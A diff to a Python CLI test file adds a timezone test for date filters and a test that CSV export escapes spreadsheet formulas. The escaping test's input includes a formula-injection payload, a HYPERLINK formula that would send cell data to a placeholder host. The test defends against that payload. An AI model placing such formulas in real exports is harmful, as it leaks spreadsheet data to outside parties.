@@ -3,11 +3,13 @@
 import csv
 import io
 import json
+import time
+from datetime import UTC, datetime
 
 import pytest
 
 from fleet.cli import listing
-from fleet.cli.asking import is_term
+from fleet.cli.asking import ThisMachine, is_term, understood
 from fleet.cli.session import FORMATS
 from fleet.history import tags
 from tests.cli.conftest import Fleet
@@ -50,6 +52,20 @@ class TestQueries:
         else:
             assert (ran.code, max(0, len(ran.lines) - 1)) == (0, found), ran.err
 
+    def test_a_date_is_of_the_season_in_which_it_lies(self, monkeypatch: pytest.MonkeyPatch) -> None:
+        """Not of that in which one asks: in Paris the summer is two hours ahead of UTC, the winter one."""
+        monkeypatch.setenv("TZ", "Europe/Paris")
+        time.tzset()
+        try:
+            asked = understood(("since:2026-07-25", "until:2026-11-25"))
+            summer = ThisMachine().fromutc(datetime(2026, 7, 24, 22, tzinfo=UTC))
+            there = (summer.isoformat(), summer.tzname())
+        finally:
+            monkeypatch.undo()
+            time.tzset()
+        assert asked == "since:2026-07-24T22:00:00+00:00 until:2026-11-24T23:00:00+00:00"
+        assert there == ("2026-07-25T00:00:00+02:00", "CEST")
+
     def test_a_mistake_is_told_before_anything_is_sent(self, fleet: Fleet, monkeypatch: pytest.MonkeyPatch) -> None:
         monkeypatch.setenv("FLEET_SOCKET", "/nowhere")
         ran = fleet("history", "host:web-1 mirorr:x")
@@ -74,6 +90,16 @@ class TestForms:
         assert json.loads(line) == whole
         assert list(row) == list(whole)
         assert (row["host"], row["old_digest"], row["new_digest"]) == ("web-1", OLD, NEW)
+
+    def test_a_spreadsheet_calculates_nothing_of_what_a_host_wrote(self, capsys: pytest.CaptureFixture[str]) -> None:
+        reason = '=HYPERLINK("http://x/?"&A1, "a,b")\nsecond line'
+        listing._write_csv(
+            [{"reason": reason, "by": "@SUM(1)", "down": -5, "plain": "a=b", "diff": ["=1"], "none": None}]
+        )
+        (row,) = csv.DictReader(io.StringIO(capsys.readouterr().out))
+        assert row == {
+            "reason": f"'{reason}", "by": "'@SUM(1)", "down": "-5", "plain": "a=b", "diff": '["=1"]', "none": ""
+        }  # fmt: skip
 
     def test_one_outcome_is_a_line_of_json_or_of_csv_with_its_pull(self, fleet: Fleet, updated: ScriptedHost) -> None:
         (listed,) = fleet("history", "ls", "-o", "jsonl").lines
